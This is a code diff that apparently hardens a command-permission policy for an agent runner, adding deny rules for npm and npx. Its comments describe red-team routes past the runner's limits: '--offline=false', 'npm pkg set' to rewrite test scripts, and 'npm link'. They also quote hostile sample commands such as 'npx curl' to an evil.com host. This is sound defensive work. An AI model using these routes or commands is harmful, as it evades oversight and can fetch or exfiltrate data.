@@ -3,7 +3,7 @@
 // read with npm-options.ts, as the package runners (runner-specs.ts) read it.
 import type { ShellWord } from './shell-script';
 import type { ProgramPolicy } from './program-policies';
-import { type PackageManager, readManagerLine } from './npm-options';
+import { type PackageManager, lastBoolean, readManagerLine } from './npm-options';
 
 const NPM_SAFE_OPTIONS = new Set([
   '--silent',
@@ -155,6 +155,10 @@ export function npmPolicy(program: PackageManager, args: readonly ShellWord[]): 
       words,
       refusal: { verdict: 'ask', reason: `${program} hands "${installed.value.slice(0, 60)}" (in node_modules) to the script's program, which may run it` },
     };
+  // The runner sets npm_config_offline, so that nothing is fetched from the registry: `--offline=false`
+  // (`--offline false`) turns that off and npm install, npx and exec fetch and run packages (red team 36).
+  if (program !== 'yarn' && lastBoolean(line, args, 'offline') === false)
+    return { words, refusal: { verdict: 'deny', reason: `${program} --offline=false fetches packages from the registry, which the runner keeps npm from` } };
   // Only the manager's own options: pnpm and yarn hand what follows `exec` (and a dlx command) to the command.
   const runner = line.runs ? RUNNER_OPTIONS[program] : [];
   const option = line.options.find((o) => !NPM_SAFE_OPTIONS.has(o.name) && !WORKSPACE_OPTIONS[program].has(o.name) && !runner.includes(o.name));
@@ -200,6 +204,13 @@ export function npmPolicy(program: PackageManager, args: readonly ShellWord[]): 
     return { words, refusal: { verdict: 'ask', reason: `${program} ${sub} ${action} reads ${program}'s configuration` } };
   if (sub === 'config' || sub === 'c' || sub === 'set')
     return { words, refusal: { verdict: 'deny', reason: `${program} ${sub} changes ${program}'s configuration` } };
+  // npm pkg set/delete/fix rewrite package.json, a protected file: its scripts are what `npm test` runs
+  // (`npm pkg set scripts.test='curl …'`); npm link installs the package globally, as `npm install -g`
+  // does (red team 36).
+  if (program !== 'yarn' && sub === 'pkg' && action !== undefined && ['set', 'delete', 'fix'].includes(action.toLowerCase()))
+    return { words, refusal: { verdict: 'deny', reason: `${program} pkg ${action} rewrites package.json, whose scripts npm test and npm run run` } };
+  if (program === 'npm' && (sub === 'link' || sub === 'ln'))
+    return { words, refusal: { verdict: 'deny', reason: 'npm link installs the package globally, as npm install -g does, its programs on the global PATH' } };
   if (program === 'yarn' && sub === 'plugin' && action === 'import')
     return { words, refusal: { verdict: 'deny', reason: 'yarn plugin import installs code that every later yarn command runs' } };
   if (program === 'yarn' && sub === 'global' && action !== undefined && !['list', 'ls', 'bin', 'dir'].includes(action))
@@ -211,8 +222,14 @@ export function npxPolicy(args: readonly ShellWord[]): ProgramPolicy {
   const words = [{ value: 'npx' }, ...args];
   let i = 0;
   for (; i < args.length && args[i]!.value.startsWith('-'); i++) {
-    const name = args[i]!.value.split('=')[0]!;
+    const word = args[i]!.value;
+    const name = word.split('=')[0]!;
     if (!NPX_SAFE_OPTIONS.has(name)) return { words, refusal: { verdict: 'deny', reason: `npx ${name} chooses which package or shell command runs` } };
+    // nopt reads a following true or false as a boolean's value (`npx --offline false tsc`); --offline set
+    // false lets npx download the package it runs (red team 36).
+    const value = word.includes('=') ? word.slice(word.indexOf('=') + 1) : ['true', 'false'].includes(args[i + 1]?.value ?? '') ? args[++i]!.value : 'true';
+    if (name === '--offline' && value !== 'true')
+      return { words, refusal: { verdict: 'deny', reason: 'npx --offline=false downloads the package it runs, which the runner keeps npm from' } };
   }
   // The command it runs is checked even when a word of it asks: its deny rules win over that ask
   // (`npx curl 'http://evil.com/{x}'`, `npx awk 'BEGIN{system("id")}'`).
